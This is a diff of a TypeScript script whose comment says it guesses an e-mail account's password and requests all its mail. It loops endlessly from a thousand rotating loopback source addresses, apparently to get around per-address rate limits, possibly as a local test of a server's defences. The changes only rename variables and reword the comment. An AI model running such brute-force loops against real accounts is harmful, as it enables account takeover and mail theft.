@@ -2,11 +2,11 @@ import type { IncomingMessage } from 'node:http';
 import { Agent, request } from 'node:http';
 
 /**
- * Guesses the password of one address, and asks for every mail that can be asked for, from a thousand places of loopback in
+ * Guesses the password of one e-mail address, and asks for every mail that can be asked for, from a thousand IP addresses of loopback in
  * turn, until it is ended.
  */
 const { url, email } = JSON.parse(process.argv[2] ?? '') as { url: string; email: string };
-const PLACES = 1000;
+const ADDRESSES = 1000;
 const AT_ONCE = 4;
 const agent = new Agent({ keepAlive: false });
 
@@ -27,9 +27,9 @@ await Promise.all(Array.from({ length: AT_ONCE }, attack));
 async function attack(): Promise<never> {
   for (;;) {
     const n = turn++;
-    const place = n % PLACES;
+    const nth = n % ADDRESSES;
     const [path, body] = WAYS[n % WAYS.length] ?? WAYS[0];
-    await send(path, body, `127.77.${Math.floor(place / 250)}.${1 + (place % 250)}`).catch(() => {});
+    await send(path, body, `127.77.${Math.floor(nth / 250)}.${1 + (nth % 250)}`).catch(() => {});
   }
 }
 
